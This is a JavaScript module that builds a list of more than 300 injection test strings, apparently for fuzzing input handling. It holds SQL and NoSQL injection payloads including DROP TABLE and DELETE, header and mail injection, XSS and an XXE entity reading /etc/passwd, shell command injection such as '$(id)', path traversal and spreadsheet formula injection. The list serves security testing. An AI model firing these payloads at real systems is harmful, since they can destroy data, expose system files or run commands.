/**
 * Texts that do something where a value is taken for code: in SQL, in a shell, in a mail's or a request's head, in HTML, in a
 * path, in JSON. Built from parts, 300 and more of them.
 */
const QUOTES = ["'", '"', '`', "')", '")', "'))", "%'", "\\'", '%27', '\u2019', '']
const SQL = [
  ' OR 1=1-- -', ' OR SLEEP(0)-- -', ' AND 1=2 UNION SELECT NULL,NULL,NULL-- -', '; DROP TABLE accounts-- -', "; UPDATE entries SET first_name='x'-- -",
  '; DELETE FROM webhooks; #', ' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) y)-- -',
  ' AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))-- -', ' PROCEDURE ANALYSE()-- -', ' INTO OUTFILE "/tmp/x"-- -', ' OR "a"="a', '||(SELECT 1)||', '/**/OR/**/1=1/*',
  ' AND BENCHMARK(1,MD5(1))-- -', ' LIMIT 0,1-- -', ' ORDER BY 99-- -', ';SELECT @@version-- -', ' RLIKE (SELECT 1)-- -', ' HAVING 1=1-- -', '=0-- -',
] // prettier-ignore
const PLACEHOLDERS = ['?', '??', ':name', '$1', '%s', '{0}', '${7*7}', '#{7*7}', '{{7*7}}', '<%= 7*7 %>', '@x', '\\', '%', '_', '\\%', '\\_'] // prettier-ignore
const NOSQL = ['{"$ne":null}', '{"$gt":""}', '[$ne]', "';return true;var a='", '{"$where":"sleep(1)"}', '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype.polluted'] // prettier-ignore
const HEADS = ['\r\n', '\n', '\r', '\u2028', '%0d%0a', '\u010a', '\u0085', '\u000b', '\u000c'].flatMap((end) => [`x${end}Bcc: thief@example.com`, `x${end}${end}<script>alert(1)</script>`, `x${end}X-Injected: 1`, `x${end}Content-Type: text/html`, `x${end}.${end}QUIT`]) // prettier-ignore
const HTML = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '</td></tr></table><h1>x</h1>', "'-alert(1)-'", '<svg/onload=alert(1)>', '&lt;b&gt;', '<a href="javascript:alert(1)">x</a>', '<!--', ']]>', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'] // prettier-ignore
const COMMANDS = ['; id', '| id', '`id`', '$(id)', '& ping -c 1 127.0.0.1 &', '\nid\n', '../../../../etc/passwd', '..\\..\\x', '/etc/passwd%00', 'file:///etc/passwd', 'C:\\x', '=cmd|x!A1', '+1+1', '-1+1', '@SUM(1)'] // prettier-ignore
const UNICODE = ['\u202e', '\ufeff', '\u0000'.replace('\u0000', '\u0001'), '\u007f', '\ud83d\ude00', 'a\u0301'.repeat(20), '\u{10ffff}', '\uffff', '\u1e9e\u0130\u0131', 'Ω'.repeat(50), '\u200b', '０１２３'] // prettier-ignore
const NUMBERS = ['0', '-1', '1e309', 'NaN', 'Infinity', '0x10', '9'.repeat(40), 'null', 'undefined', 'true', '[]', '{}', ''] // prettier-ignore

export const INJECTION_TEXTS = [
  ...new Set([
    ...QUOTES.flatMap((quote) => SQL.map((text) => `${quote}${text}`)),
    ...QUOTES, ...PLACEHOLDERS, ...NOSQL, ...HEADS, ...HTML, ...COMMANDS, ...UNICODE, ...NUMBERS,
  ]),
] // prettier-ignore
